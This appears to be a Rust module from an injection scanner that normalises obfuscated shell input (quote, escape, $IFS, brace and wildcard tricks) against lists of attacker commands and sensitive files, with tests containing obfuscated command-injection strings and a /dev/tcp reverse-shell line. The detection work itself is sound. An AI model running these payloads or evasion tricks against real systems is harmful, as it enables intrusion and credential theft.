//! `shell`: the command-line normal form. The grammar, what it undoes and what it
//! deliberately leaves alone are documented on the parent module.

/// Well-known files a wildcard word is matched against before the command list.
const FILES: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/etc/group",
    "/etc/hosts",
    "/etc/issue",
    "/proc/self/environ",
    "/proc/version",
];

/// Directories the commands are looked for in, in this order.
const DIRS: &[&str] = &["/bin/", "/usr/bin/", "/sbin/", "/usr/sbin/"];

/// Commands attackers run, in the order wildcard words are matched against them.
const COMMANDS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "csh", "tcsh", "cat", "nc", "ncat", "netcat", "wget",
    "curl", "python", "python3", "perl", "ruby", "php", "id", "whoami", "uname", "ls", "ps",
    "chmod", "chown", "rm", "mv", "cp", "touch", "echo", "base64", "nohup", "sleep", "ping",
    "nslookup", "dig", "telnet", "ssh", "scp", "awk", "sed", "grep", "find", "xargs", "tar",
    "gzip", "crontab", "useradd", "passwd", "kill", "pkill", "socat", "busybox",
];

/// Words longer than this are never glob-matched (no candidate is longer than 24 bytes, and
/// a `*` can only add bytes, so a longer word with few `*` cannot match either; the cap keeps
/// the per-word cost constant).
const MAX_GLOB_WORD: usize = 64;

/// How far past `${` the closing `}` is looked for. Bounds the look-ahead so that input made
/// of unterminated `${` stays linear.
const MAX_BRACE_PARAM: usize = 64;

/// 1 if `b` may make the normaliser change something, else 0: `\ ' " ^ $ ` ( ) ; | & { }
/// ? * [ < >`, tab, newline, VT, FF, CR. Besides these only spaces can (at either end, or
/// doubled), which [`may_change`] checks separately. Written as branch-free comparisons
/// accumulated in a `u8` (not a table, not `bool`s) so that the fold over a chunk
/// vectorises: about 4 GB/s against about 0.35 GB/s for the `bool` version.
#[inline(always)]
pub(super) const fn special(b: u8) -> u8 {
    (b.wrapping_sub(b'\t') < 5) as u8 // \t \n \x0b \x0c \r
        | (b == b'"') as u8
        | (b.wrapping_sub(b'$') < 7) as u8 // $ % & ' ( ) *  (% is a harmless extra)
        | (b == b';') as u8
        | (b == b'<') as u8
        | (b == b'>') as u8
        | (b == b'?') as u8
        | (b.wrapping_sub(b'[') < 4) as u8 // [ \ ] ^  (] is a harmless extra)
        | (b == b'`') as u8
        | (b.wrapping_sub(b'{') < 3) as u8 // { | }
}

/// A byte that is always copied as part of a word: not special, not a space, not a comma
/// (which is a space inside braces).
#[inline(always)]
fn is_plain(b: u8) -> bool {
    PLAIN[b as usize]
}

/// [`is_plain`] of every byte value, so the fast path costs one load per byte.
static PLAIN: [bool; 256] = {
    let mut t = [false; 256];
    let mut i = 0;
    while i < 256 {
        let b = i as u8;
        t[i] = special(b) == 0 && b != b' ' && b != b',';
        i += 1;
    }
    t
};

/// The cheap no-change check: `false` guarantees [`normalise`] would return the input.
pub(super) fn may_change(input: &[u8]) -> bool {
    let (Some(&first), Some(&last)) = (input.first(), input.last()) else {
        return false;
    };
    first == b' '
        || last == b' '
        || input
            .chunks(64)
            .any(|c| c.iter().fold(0u8, |acc, &b| acc | special(b)) != 0)
        || super::text::has_double_space(input)
}

/// The input as the normaliser reads it: with `\`, quotes and `^` skipped, and a
/// backslash-newline removed entirely.
struct Src<'a>(&'a [u8]);

impl Src<'_> {
    /// The first significant byte at or after `i`, and the index just past it.
    #[inline]
    fn sig(&self, mut i: usize) -> Option<(u8, usize)> {
        let s = self.0;
        while let Some(&b) = s.get(i) {
            match b {
                b'\\' => {
                    i += match (s.get(i + 1), s.get(i + 2)) {
                        (Some(b'\n'), _) => 2,
                        (Some(b'\r'), Some(b'\n')) => 3,
                        _ => 1,
                    }
                }
                b'\'' | b'"' | b'^' => i += 1,
                _ => return Some((b, i + 1)),
            }
        }
        None
    }

    /// After `${` (with `k` just past the `{`): the index past the closing `}` and whether
    /// the parameter is `IFS` (`${IFS}`, `${IFS%??}`, `${IFS:0:1}` …). `None` when there is
    /// no `}` within [`MAX_BRACE_PARAM`] bytes.
    fn brace_param(&self, k: usize) -> Option<(usize, bool)> {
        let window = self.0.get(k..)?;
        let window = &window[..window.len().min(MAX_BRACE_PARAM)];
        let close = k + memchr::memchr(b'}', window)?;
        let mut ifs = true;
        let mut j = k;
        for want in [Some(b'I'), Some(b'F'), Some(b'S'), None] {
            let got = match self.sig(j) {
                Some((b, next)) if next <= close => {
                    j = next;
                    Some(b)
                }
                _ => None,
            };
            ifs &= match (want, got) {
                (Some(w), g) => g == Some(w),
                // after IFS: the `}` or an operator such as `%`, `:`, `#`, not more name
                (None, g) => !g.is_some_and(is_name),
            };
        }
        Some((close + 1, ifs))
    }
}

#[inline]
fn is_name(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Pending {
    None,
    Space,
    Sep,
}

/// Builds the normal form in `out`, deciding spaces and separators lazily.
struct Writer<'o> {
    out: &'o mut Vec<u8>,
    pending: Pending,
    /// Where the word being written starts in `out`.
    word: Option<usize>,
    /// Whether that word has a wildcard byte, and a byte that is not one.
    wild: bool,
    literal: bool,
}

impl Writer<'_> {
    fn end_word(&mut self) {
        if let Some(start) = self.word.take() {
            if self.wild && self.literal {
                if let Some((prefix, name)) = glob_known(&self.out[start..]) {
                    self.out.truncate(start);
                    self.out.extend_from_slice(prefix.as_bytes());
                    self.out.extend_from_slice(name.as_bytes());
                }
            }
            self.wild = false;
            self.literal = false;
        }
    }

    fn flush(&mut self) {
        match self.pending {
            Pending::Sep => self.out.push(b';'),
            Pending::Space => {
                if !matches!(self.out.last(), None | Some(b';')) {
                    self.out.push(b' ');
                }
            }
            Pending::None => {}
        }
        self.pending = Pending::None;
    }

    fn space(&mut self) {
        self.end_word();
        if self.pending == Pending::None {
            self.pending = Pending::Space;
        }
    }

    fn sep(&mut self) {
        self.end_word();
        self.pending = Pending::Sep;
    }

    /// Appends a run of [`is_plain`] bytes to the current word.
    fn plain(&mut self, run: &[u8]) {
        if self.word.is_none() {
            self.flush();
            self.word = Some(self.out.len());
        }
        self.literal = true;
        self.out.extend_from_slice(run);
    }

    fn byte(&mut self, b: u8) {
        if self.word.is_none() {
            self.flush();
            self.word = Some(self.out.len());
        }
        if matches!(b, b'?' | b'*' | b'[') {
            self.wild = true;
        } else {
            self.literal = true;
        }
        self.out.push(b);
    }

    /// Starts a redirection operator: it always stands alone between spaces.
    fn op_start(&mut self) {
        self.end_word();
        if self.pending == Pending::None {
            self.pending = Pending::Space;
        }
        self.flush();
    }

    fn op_end(&mut self) {
        self.pending = Pending::Space;
    }

    fn finish(mut self) {
        self.end_word();
        if self.pending == Pending::Sep {
            self.out.push(b';');
        }
    }
}

/// Rewrites `input` into the normal form in `out` (always written, even when equal).
pub(super) fn normalise(input: &[u8], out: &mut Vec<u8>) {
    out.reserve(input.len());
    let src = Src(input);
    let mut w = Writer {
        out,
        pending: Pending::None,
        word: None,
        wild: false,
        literal: false,
    };
    // Brace depth, for `,` inside `{…}`; reset by whitespace and separators (a brace
    // expansion cannot contain either unquoted).
    let mut braces = 0usize;
    let mut i = 0;
    loop {
        // Fast path: copy a run of ordinary word bytes in one go.
        let run = input[i..].iter().take_while(|&&b| is_plain(b)).count();
        if run > 0 {
            w.plain(&input[i..i + run]);
            i += run;
        }
        let Some((c, next)) = src.sig(i) else { break };
        i = next;
        match c {
            b' ' | b'\t' | b'\x0b' | b'\x0c' => {
                braces = 0;
                w.space();
            }
            b'\n' | b'\r' | b';' | b'`' | b'(' | b')' | b'|' => {
                braces = 0;
                w.sep();
            }
            b'&' => {
                braces = 0;
                if let Some((b'>', k)) = src.sig(i) {
                    // &> &>> &>&: redirection
                    w.op_start();
                    w.out.push(b'&');
                    i = redirect_tail(&src, k, b'>', &mut w);
                    w.op_end();
                } else {
                    w.sep();
                }
            }
            b'<' | b'>' => {
                braces = 0;
                if let Some((b'(', k)) = src.sig(i) {
                    // process substitution
                    i = k;
                    w.sep();
                } else {
                    w.op_start();
                    i = redirect_tail(&src, i, c, &mut w);
                    w.op_end();
                }
            }
            b'$' => i = dollar(&src, i, &mut w),
            b'{' => braces = braces.saturating_add(1),
            b'}' => braces = braces.saturating_sub(1),
            b',' if braces > 0 => w.space(),
            _ => w.byte(c),
        }
    }
    w.finish();
}

/// Writes a redirection operator whose first `<`/`>` is `first` (already consumed, `i` just
/// past it): further `<`/`>`, then an optional `&`. Returns the index past it.
fn redirect_tail(src: &Src<'_>, mut i: usize, first: u8, w: &mut Writer<'_>) -> usize {
    w.out.push(first);
    while let Some((d @ (b'<' | b'>'), k)) = src.sig(i) {
        w.out.push(d);
        i = k;
    }
    if let Some((b'&', k)) = src.sig(i) {
        w.out.push(b'&');
        i = k;
    }
    i
}

/// Handles a `$` (`i` just past it). Returns the index past the expansion.
fn dollar(src: &Src<'_>, i: usize, w: &mut Writer<'_>) -> usize {
    // $'…' and $"…": the quotes are removed, the `$` with them.
    if matches!(src.0.get(i), Some(b'\'' | b'"')) {
        return i;
    }
    match src.sig(i) {
        Some((b'{', k)) => match src.brace_param(k) {
            Some((end, ifs)) => {
                if ifs {
                    w.space();
                }
                end
            }
            // unterminated: drop the `$`, the `{` is then an ordinary brace
            None => i,
        },
        Some((c, k)) if c.is_ascii_alphabetic() || c == b'_' => {
            let mut len = 1usize;
            let mut ifs = c == b'I';
            let mut j = k;
            while let Some((d, next)) = src.sig(j) {
                if !is_name(d) {
                    break;
                }
                if len < 3 {
                    ifs &= d == b"IFS"[len];
                }
                len = len.saturating_add(1);
                j = next;
            }
            if ifs && len == 3 {
                w.space();
            }
            j
        }
        Some((c, k)) if c.is_ascii_digit() || b"@*#?!$-".contains(&c) => k,
        // `$(` is a separator via `(`; any other `$` is simply dropped
        _ => i,
    }
}

/// What a candidate must look like for a wildcard word to have a chance of matching it,
/// computed once per word so that most candidates are rejected without running the matcher.
struct Shape {
    /// The first byte, when it is literal.
    first: Option<u8>,
    slashes: usize,
    /// Bytes that are not `*` (each matches exactly one byte), when there is no `[…]`.
    min_len: usize,
    /// Whether the word has no `*` (so the length must be exactly `min_len`).
    exact: bool,
}

impl Shape {
    fn of(word: &[u8]) -> Shape {
        let class = word.contains(&b'[');
        let stars = word.iter().filter(|&&b| b == b'*').count();
        Shape {
            first: word
                .first()
                .copied()
                .filter(|b| !matches!(b, b'?' | b'*' | b'[')),
            slashes: word.iter().filter(|&&b| b == b'/').count(),
            min_len: if class { 0 } else { word.len() - stars },
            exact: !class && stars == 0,
        }
    }

    fn admits(&self, first: u8, len: usize, slashes: usize) -> bool {
        self.first.map_or(true, |f| f == first)
            && slashes == self.slashes
            && len >= self.min_len
            && (!self.exact || len == self.min_len)
    }
}

fn slashes(s: &str) -> usize {
    s.bytes().filter(|&b| b == b'/').count()
}

/// Glob-matches `word` against the built-in paths (when it has a `/`) or command names
/// (when it has none). Returns the first match as prefix + name.
fn glob_known(word: &[u8]) -> Option<(&'static str, &'static str)> {
    if word.len() > MAX_GLOB_WORD {
        return None;
    }
    let shape = Shape::of(word);
    if shape.slashes == 0 {
        return COMMANDS
            .iter()
            .find(|c| shape.admits(c.as_bytes()[0], c.len(), 0) && glob(word, c.as_bytes()))
            .map(|c| ("", *c));
    }
    if let Some(f) = FILES
        .iter()
        .find(|f| shape.admits(b'/', f.len(), slashes(f)) && glob(word, f.as_bytes()))
    {
        return Some(("", f));
    }
    let mut buf = [0u8; 32];
    for dir in DIRS {
        let dir_slashes = slashes(dir);
        for cmd in COMMANDS {
            let len = dir.len() + cmd.len();
            if !shape.admits(b'/', len, dir_slashes) {
                continue;
            }
            buf[..dir.len()].copy_from_slice(dir.as_bytes());
            buf[dir.len()..len].copy_from_slice(cmd.as_bytes());
            if glob(word, &buf[..len]) {
                return Some((dir, cmd));
            }
        }
    }
    None
}

/// Shell pattern matching: `?` one byte, `*` any bytes, `[…]` a class (`!` negates, `a-z`
/// ranges), none of which matches `/`. A `[` without its `]` is literal.
fn glob(pat: &[u8], text: &[u8]) -> bool {
    let mut ps = pat.split(|&b| b == b'/');
    let mut ts = text.split(|&b| b == b'/');
    loop {
        match (ps.next(), ts.next()) {
            (None, None) => return true,
            (Some(p), Some(t)) if glob_segment(p, t) => {}
            _ => return false,
        }
    }
}

/// Parses the class starting at `pat[i] == b'['`. Returns whether `c` is in it and the index
/// past the `]`, or `None` when it is not terminated.
fn class(pat: &[u8], i: usize, c: u8) -> Option<(bool, usize)> {
    let mut j = i + 1;
    let negated = pat.get(j) == Some(&b'!');
    if negated {
        j += 1;
    }
    let mut hit = false;
    let mut first = true;
    loop {
        let b = *pat.get(j)?;
        if b == b']' && !first {
            return Some((hit != negated, j + 1));
        }
        first = false;
        match (pat.get(j + 1), pat.get(j + 2)) {
            (Some(b'-'), Some(&hi)) if hi != b']' => {
                hit |= (b..=hi).contains(&c);
                j += 3;
            }
            _ => {
                hit |= b == c;
                j += 1;
            }
        }
    }
}

/// Glob over one `/`-free segment: the classic linear matcher that backtracks to the most
/// recent `*` only (sufficient for `*`, as later stars subsume earlier ones).
fn glob_segment(pat: &[u8], text: &[u8]) -> bool {
    let (mut pi, mut ti) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while ti < text.len() {
        let c = text[ti];
        let step = match pat.get(pi) {
            Some(b'*') => {
                star = Some((pi + 1, ti));
                pi += 1;
                continue;
            }
            Some(b'?') => Some(pi + 1),
            Some(b'[') => match class(pat, pi, c) {
                Some((true, next)) => Some(next),
                Some((false, _)) => None,
                None => (c == b'[').then_some(pi + 1),
            },
            Some(&p) => (p == c).then_some(pi + 1),
            None => None,
        };
        match (step, star) {
            (Some(next), _) => {
                pi = next;
                ti += 1;
            }
            (None, Some((sp, st))) => {
                pi = sp;
                ti = st + 1;
                star = Some((sp, st + 1));
            }
            (None, None) => return false,
        }
    }
    pat[pi..].iter().all(|&b| b == b'*')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sh(s: &str) -> String {
        let mut out = Vec::new();
        normalise(s.as_bytes(), &mut out);
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn quoting_and_escapes() {
        assert_eq!(sh(r#"c''at /e""tc/pa\ss\wd"#), "cat /etc/passwd");
        assert_eq!(sh("ca\\\nt /etc/passwd"), "cat /etc/passwd");
        assert_eq!(sh("ca\\\r\nt"), "cat");
        assert_eq!(sh(r"\\\c\a\t"), "cat");
        assert_eq!(sh("c^a^t /e^tc/pas^swd"), "cat /etc/passwd");
        assert_eq!(sh(";w'g'et http://x"), ";wget http://x");
        assert_eq!(sh(r#"w"h"o"a"m"i"#), "whoami");
    }

    #[test]
    fn variables() {
        assert_eq!(sh("cat${IFS}/etc/passwd"), "cat /etc/passwd");
        assert_eq!(sh("cat$IFS/etc/passwd"), "cat /etc/passwd");
        assert_eq!(sh("cat$IFS$9/etc/passwd"), "cat /etc/passwd");
        assert_eq!(sh("cat${IFS%??}/etc/passwd"), "cat /etc/passwd");
        assert_eq!(sh("cat${IFS:0:1}/etc/passwd"), "cat /etc/passwd");
        assert_eq!(sh("c$@at /etc/pa$*sswd"), "cat /etc/passwd");
        assert_eq!(sh("ca${x}t /e$1tc/passwd"), "cat /etc/passwd");
        assert_eq!(sh("w$()get"), "w;get");
        assert_eq!(sh("$IFSx cat"), "cat");
        assert_eq!(sh("${IF}cat ${}x"), "cat x");
        assert_eq!(sh("a$#b$?c$!d$$e$-f$0g"), "abcdefg");
        assert_eq!(sh("$'cat' $\"id\""), "cat id");
        assert_eq!(sh("costs $5"), "costs");
        // unterminated ${ : the $ goes, the brace is a brace
        assert_eq!(sh("${cat,x"), "cat x");
        // a lone `$` never survives (a kept `$` would be an expansion on the next pass)
        assert_eq!(sh("$}*"), "*");
        assert_eq!(sh("$ x $/y"), "x /y");
    }

    #[test]
    fn separators() {
        assert_eq!(sh("a|b&&c"), "a;b;c");
        assert_eq!(sh("a || b ; c & d"), "a;b;c;d");
        assert_eq!(sh("$(whoami)"), ";whoami;");
        assert_eq!(sh("`id`"), ";id;");
        assert_eq!(sh("x\n\r\ncat /etc/passwd\n"), "x;cat /etc/passwd;");
        assert_eq!(sh("  ;; cat  "), ";cat");
        assert_eq!(sh("diff <(ls) >(id)"), "diff;ls;id;");
        assert_eq!(sh("1;cat /etc/passwd"), "1;cat /etc/passwd");
    }

    #[test]
    fn redirections() {
        assert_eq!(sh("cat</etc/passwd"), "cat < /etc/passwd");
        assert_eq!(
            sh("bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"),
            "bash -i >& /dev/tcp/10.0.0.1/8080 0 >& 1"
        );
        assert_eq!(sh("echo x>>/tmp/f"), "echo x >> /tmp/f");
        assert_eq!(sh("id &>/dev/null"), "id &> /dev/null");
        assert_eq!(sh(">x"), "> x");
        assert_eq!(sh("a>;b"), "a >;b");
        assert_eq!(sh("a>&&b"), "a >&;b");
    }

    #[test]
    fn braces() {
        assert_eq!(sh("{cat,/etc/passwd}"), "cat /etc/passwd");
        assert_eq!(sh(";{wget,http://x/s.sh}"), ";wget http://x/s.sh");
        assert_eq!(sh("{a,b}c"), "a bc");
        assert_eq!(sh("{ cat /etc/passwd; }"), "cat /etc/passwd;");
        assert_eq!(sh("a,b"), "a,b");
        assert_eq!(sh(r#"{"k": "x,y"}"#), "k: x,y");
    }

    #[test]
    fn wildcards() {
        assert_eq!(sh("/???/c?t /???/p??s??"), "/bin/cat /etc/passwd");
        assert_eq!(sh("/bin/ca* /e??/p?ss??"), "/bin/cat /etc/passwd");
        assert_eq!(sh("/usr/bin/wg?t"), "/usr/bin/wget");
        assert_eq!(sh("/???/[c]at /etc/[!x]asswd"), "/bin/cat /etc/passwd");
        assert_eq!(sh("/?r?c/s?lf/env*"), "/proc/self/environ");
        assert_eq!(sh("wh??mi"), "whoami");
        assert_eq!(sh("{/???/c?t,/???/p?ss??}"), "/bin/cat /etc/passwd");
        // no match, or nothing literal: left alone
        assert_eq!(sh("/???/zzz what? 5 * 3 ???"), "/???/zzz what? 5 * 3 ???");
        assert_eq!(sh("/*/c*"), "/bin/csh");
    }

    #[test]
    fn benign_prose() {
        assert_eq!(sh("bash away in the gym"), "bash away in the gym");
        assert_eq!(sh("it's a test"), "its a test");
        assert_eq!(sh("x^2 (approx.)"), "x2;approx.;");
    }

    #[test]
    fn glob_matcher() {
        assert!(glob(b"*", b"abc"));
        assert!(glob(b"a*c", b"abbbc"));
        assert!(!glob(b"a*c", b"abbb"));
        assert!(!glob(b"*", b"a/b"));
        assert!(glob(b"*/*", b"a/b"));
        assert!(glob(b"[a-c]x", b"bx"));
        assert!(!glob(b"[!a-c]x", b"bx"));
        assert!(glob(b"[]]", b"]"));
        assert!(glob(b"[ab", b"[ab"));
        assert!(glob(b"*a*b*c", b"xxaxxbxxc"));
    }
}
